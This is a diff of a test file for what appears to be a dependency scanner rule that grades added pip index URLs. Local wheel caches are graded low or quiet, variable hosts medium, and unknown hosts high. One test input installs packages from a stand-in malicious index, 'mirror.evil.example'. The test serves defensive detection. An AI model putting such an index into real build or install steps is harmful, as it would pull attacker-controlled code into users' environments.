@@ -164,6 +164,21 @@ describe('deps/index-url', () => {
     expectQuiet(found13, 'deps/index-url');
     const found14 = added('requirements.txt', '--extra-index-url https://pkgs.example.net/simple\nnumpy');
     expectQuiet(found14, 'deps/index-url');
+    // geopandas@06d793cefcbc: the job's own wheel cache, a `file:` URL, is a folder, not a remote index.
+    const cache = added('.travis.yml', 'env:\n  - PIP_FIND_LINKS=file://$HOME/.cache/pip/wheels');
+    expectQuiet(cache, 'deps/index-url');
+    expect(severities(added('ci.sh', 'pip install --index-url file:///opt/wheels/simple x'), 'deps/index-url')).toEqual(
+      ['low']
+    );
+  });
+
+  it('takes a host the shell fills in for a variable: medium in a change, not the high of a named unknown host', () => {
+    expect(
+      severities(added('ci.sh', 'pip install --extra-index-url https://$MIRROR/simple x'), 'deps/index-url')
+    ).toEqual(['medium']);
+    expect(
+      severities(added('ci.sh', 'pip install --extra-index-url https://mirror.evil.example/simple x'), 'deps/index-url')
+    ).toEqual(['high']);
   });
 });
 
